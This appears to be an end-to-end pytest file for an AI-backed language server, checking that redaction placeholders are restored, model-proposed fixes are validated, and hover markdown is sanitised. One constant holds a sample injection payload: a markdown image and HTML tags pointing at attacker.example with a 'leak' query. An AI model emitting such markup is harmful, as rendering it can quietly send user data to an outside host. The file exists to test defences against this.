"""Nothing the model says lands unchecked, end to end (real server, fake model server).

- a redaction placeholder in an edit is put back to the user's value, or the edit is refused;
- a review issue's `fix` is cleaned and validated like any edit; a broken one is not offered;
- Fix actions are listed only for diagnostics on the requested lines, each naming its line;
- hover markdown carries no remote image and no raw HTML.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from lsprotocol import types
from tests.e2e.conftest import (
    NO_CACHE,
    SHARED,
    FakeModelView,
    LspilotClient,
    SharedSessions,
    actions_at,
    fenced,
    lsp_session,
    perform,
    pick,
)
from tests.fakes.model_server import FakeModelServer

# Built at run time so no fixture looks like a real key.
SECRET = "sk-" + "proj" + "Z9" * 20
SOURCE = f'''import os


def connect(host):
    key = "{SECRET}"
    return open_client(host, key)
'''


@pytest.fixture(params=[True, False], ids=["resolve", "command"])
def resolve(request: pytest.FixtureRequest) -> bool:
    return bool(request.param)


def foreign(client: LspilotClient, uri: str, needle: str, message: str) -> types.Diagnostic:
    """A diagnostic of another server (what a linter publishes)."""
    return types.Diagnostic(range=client.range_of(uri, needle), message=message, source="lint")


def sent_prompts(model_server: FakeModelServer) -> str:
    return "\n".join(model_server.prompt_text(r) for r in model_server.chat_requests())


@SHARED
async def test_placeholder_in_a_fix_is_put_back_to_the_secret(
    client_name: str,
    resolve: bool,
    shared_sessions: SharedSessions,
    shared_model: FakeModelView,
) -> None:
    def answer(body: dict[str, Any]) -> str:
        # The model rewrites the code it saw, placeholder included.
        prompt = "\n".join(str(m.get("content")) for m in body["messages"])
        placeholder = re.search(r"«redacted:[^»]+»", prompt)
        assert placeholder is not None, "the secret was sent unredacted"
        return fenced(
            f'def connect(host):\n    key = "{placeholder.group(0)}"\n'
            "    return open_client(host, key, timeout=5)"
        )

    shared_model.responder = answer
    async with shared_sessions.use(client_name, resolve=resolve, init_options=NO_CACHE) as client:
        uri = client.open_doc("conn.py", SOURCE)
        diagnostic = foreign(client, uri, "open_client(host, key)", "No timeout given")
        actions = await actions_at(
            client, uri, client.find(uri, "open_client"), diagnostics=[diagnostic]
        )
        assert await perform(client, uri, pick(actions, "Fix: No timeout given (line 6)"))
        text = client.text(uri)
        assert f'key = "{SECRET}"' in text and "timeout=5" in text
        assert "«redacted" not in text
    assert SECRET not in sent_prompts(shared_model)


@SHARED
async def test_a_placeholder_that_stands_for_nothing_is_refused(
    client_name: str,
    resolve: bool,
    shared_sessions: SharedSessions,
    shared_model: FakeModelView,
) -> None:
    # A placeholder the input did not produce (invented, or another kind): never lands.
    shared_model.responder = lambda body: fenced(
        'def connect(host):\n    key = "«redacted:github-token»"\n    return open_client(host, key)'
    )
    async with shared_sessions.use(client_name, resolve=resolve, init_options=NO_CACHE) as client:
        uri = client.open_doc("conn.py", SOURCE)
        diagnostic = foreign(client, uri, "open_client(host, key)", "No timeout given")
        actions = await actions_at(
            client, uri, client.find(uri, "open_client"), diagnostics=[diagnostic]
        )
        assert not await perform(client, uri, pick(actions, "Fix: No timeout given (line 6)"))
        message = await client.wait_for_message(r"redaction placeholder")
        assert message.type == types.MessageType.Warning
        assert client.text(uri) == SOURCE
        assert len(shared_model.chat_requests()) == 2  # the answer and one repair round


REVIEWED = """def add(a, b):
    return a - b


def scale(values, k):
    out = []
    for v in values:
        out.append(v * k)
    return out
"""


def review_answer(issues_by_name: dict[str, list[dict[str, Any]]]) -> Any:
    def answer(body: dict[str, Any]) -> str:
        prompt = "\n".join(str(m.get("content")) for m in body["messages"])
        match = re.search(r"Review `([^`]+)`", prompt)
        return json.dumps({"issues": issues_by_name.get(match.group(1) if match else "", [])})

    return answer


async def test_review_fixes_are_cleaned_and_validated(
    client_name: str, model_env: dict[str, str], workspace: Path, model_server: FakeModelServer
) -> None:
    model_server.responder = review_answer(
        {
            # Fenced: the fence goes, the fix stays.
            "add": [
                {
                    "quote": "a - b",
                    "message": "Subtracts.",
                    "severity": "error",
                    "fix": "```python\na + b\n```",
                }
            ],
            # Breaks the syntax: the issue is shown, its fix is not offered.
            "scale": [
                {
                    "quote": "out.append(v * k)",
                    "message": "Use a comprehension.",
                    "severity": "information",
                    "fix": "out.append(v * k for",
                }
            ],
        }
    )
    env = {**model_env, "LSPILOT_DIAGNOSTICS__ENABLED": "true"}
    async with lsp_session(
        client_name, env=env, workspace=workspace, pull_diagnostics=False
    ) as client:
        uri = client.open_doc(workspace / "calc.py", REVIEWED)
        published = await client.wait_for_diagnostics(uri, lambda p: len(p.diagnostics) == 2)
        by_message = {d.message: d for d in published.diagnostics}
        subtracts, comprehension = by_message["Subtracts."], by_message["Use a comprehension."]
        assert isinstance(subtracts.data, dict) and subtracts.data["fix"] == "a + b"
        assert isinstance(comprehension.data, dict) and comprehension.data["fix"] is None

        actions = await client.text_document_code_action_async(
            types.CodeActionParams(
                text_document=types.TextDocumentIdentifier(uri=uri),
                range=subtracts.range,
                context=types.CodeActionContext(diagnostics=[subtracts]),
            )
        )
        assert actions is not None
        fix = next(a for a in actions if isinstance(a, types.CodeAction) and a.is_preferred)
        assert fix.title == "Fix: Subtracts. (line 2)" and fix.edit is not None
        client.apply_workspace_edit(fix.edit)
        assert "    return a + b\n" in client.text(uri)

        listed = await client.text_document_code_action_async(
            types.CodeActionParams(
                text_document=types.TextDocumentIdentifier(uri=uri),
                range=comprehension.range,
                context=types.CodeActionContext(diagnostics=[comprehension]),
            )
        )
        # No ready edit for the broken fix: at most the model-backed "Fix" that validates
        # its own answer when picked, and never a preferred one.
        for action in listed or []:
            if isinstance(action, types.CodeAction):
                assert action.edit is None and not action.is_preferred


@SHARED
async def test_fix_is_listed_only_for_diagnostics_on_the_requested_lines(
    client_name: str, shared_sessions: SharedSessions, shared_model: FakeModelView
) -> None:
    async with shared_sessions.use(client_name, resolve=True, init_options=NO_CACHE) as client:
        uri = client.open_doc("calc.py", REVIEWED)
        # eglot sends every diagnostic of the file with every request.
        everything = [
            foreign(client, uri, "a - b", "Suspicious subtraction"),
            foreign(client, uri, "out = []", "Use a comprehension"),
            foreign(client, uri, "return out", "Unused result"),
        ]
        actions = await actions_at(
            client, uri, client.find(uri, "out = []"), diagnostics=everything
        )
        fixes = [a.title for a in actions if a.title.startswith("Fix:")]
        assert fixes == ["Fix: Use a comprehension (line 6)"]
        selection = await actions_at(
            client,
            uri,
            client.find(uri, "out = []"),
            client.find(uri, "return out") + 3,
            diagnostics=everything,
        )
        assert [a.title for a in selection if a.title.startswith("Fix:")] == [
            "Fix: Use a comprehension (line 6)",
            "Fix: Unused result (line 9)",
        ]
    assert shared_model.chat_requests() == []


INJECTED = (
    "Adds two numbers. ![pixel](https://attacker.example/p.png?leak=1) "
    '<img src="https://attacker.example/q.png"> <iframe src="https://x.example"></iframe>\n\n'
    "```python\nprint('<b>kept</b>')\n```\n\nUse `a<b` freely."
)


@SHARED
async def test_hover_markdown_fetches_nothing(
    client_name: str, shared_sessions: SharedSessions, shared_model: FakeModelView
) -> None:
    shared_model.responder = lambda body: INJECTED
    async with shared_sessions.use(client_name, resolve=True, init_options=NO_CACHE) as client:
        uri = client.open_doc("calc.py", REVIEWED + "\nadd(1, 2)\n")
        hover = await client.text_document_hover_async(
            types.HoverParams(
                text_document=types.TextDocumentIdentifier(uri=uri),
                position=client.position_of(uri, "add(1", delta=1),
            )
        )
        assert hover is not None and isinstance(hover.contents, types.MarkupContent)
        value = hover.contents.value
        assert "Adds two numbers." in value and "pixel" in value
        assert "](https://attacker" not in value
        # An escaped `\<` shows the text; only an unescaped one opens a tag.
        assert not re.search(r"(?<!\\)<(img|iframe)", value)
        assert "print('<b>kept</b>')" in value  # code blocks stay exactly
        assert "`a<b`" in value
